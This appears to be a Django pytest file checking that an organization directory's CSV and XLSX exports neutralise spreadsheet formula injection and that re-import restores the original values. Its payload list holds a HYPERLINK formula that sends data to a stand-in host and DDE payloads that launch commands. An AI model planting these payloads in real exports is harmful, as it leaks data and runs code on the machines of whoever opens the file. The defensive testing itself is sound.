"""Spreadsheet formula injection: what organizations write is exported as text, not formulas.

An organization admin names their organization `=HYPERLINK("https://evil.example", ...)`; the
secretariat exports the directory and opens it in Excel. The cell must be text (core.exports).
"""

import csv
import io

import openpyxl
import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from core.exports import escape_formula, unescape_formula
from partners.models import Organization
from tests.opportunities.factories import PublishedOpportunityFactory
from tests.partners.factories import ContactFactory, OrganizationFactory
from tests.personas import client_for
from tests.security.walk import fresh_client

FORMULAE = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click me")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
]
CSV_FORMAT, XLSX_FORMAT = "0", "1"


def export(client, url_name: str, file_format: str):
    url = reverse(url_name)
    form = client.get(url).context["form"]
    data = {"format": file_format, "resource": "0"}
    for name, field in form.fields.items():
        if getattr(field, "is_selectable_field", False) and field.initial:
            data[name] = "on"
    response = client.post(url, data)
    assert response.status_code == 200
    return response.content


def xlsx_cells(content: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.fixture
def admin(world):
    return fresh_client(client_for(world, "consortium_admin").cookies)


@pytest.fixture
def hostile(world):
    for number, formula in enumerate(FORMULAE):
        organization = OrganizationFactory(cluster=world.cluster_x, name=formula, city=formula)
        ContactFactory(organization=organization, name=formula, phone=f"+33 1 23 45 67 0{number}")
        PublishedOpportunityFactory(organization=organization, title=formula, summary=formula)


def test_no_exported_xlsx_cell_is_a_formula(admin, hostile):
    cells = xlsx_cells(export(admin, "admin:partners_organization_export", XLSX_FORMAT))
    cells += xlsx_cells(export(admin, "admin:opportunities_opportunity_export", XLSX_FORMAT))

    assert not [cell.value for cell in cells if cell.data_type == "f"]
    assert {f"'{formula}" for formula in FORMULAE} <= {cell.value for cell in cells}


def test_no_exported_csv_cell_starts_a_formula(admin, hostile):
    rows = []
    for url_name in (
        "admin:partners_organization_export",
        "admin:opportunities_opportunity_export",
    ):
        content = export(admin, url_name, CSV_FORMAT).decode("utf-8-sig")
        rows += list(csv.reader(io.StringIO(content)))

    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(("=", "+", "-", "@"))]
    assert f"'{FORMULAE[0]}" in cells


def test_an_escaped_export_re_imports_as_it_was(admin, hostile):
    content = export(admin, "admin:partners_organization_export", CSV_FORMAT)
    Organization.objects.filter(name__in=FORMULAE).update(name="changed", city="changed")

    confirm = admin.post(
        reverse("admin:partners_organization_import"),
        {"resource": "0", "format": CSV_FORMAT, "import_file": _upload(content)},
    )
    form = confirm.context["confirm_form"]
    admin.post(
        reverse("admin:partners_organization_process_import"),
        {**form.initial, "resource": "0", "format": CSV_FORMAT},
    )

    names = Organization.objects.filter(city__in=FORMULAE).values_list("name", flat=True)
    assert sorted(names) == sorted(FORMULAE)


def _upload(content: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile("organizations.csv", content, content_type="text/csv")


@pytest.mark.parametrize("value", ["=1+1", "+33 1", "-1", "@x", "\tx", "plain", "", 3])
def test_escaping_is_undone_on_import(value):
    assert unescape_formula(escape_formula(value)) == value
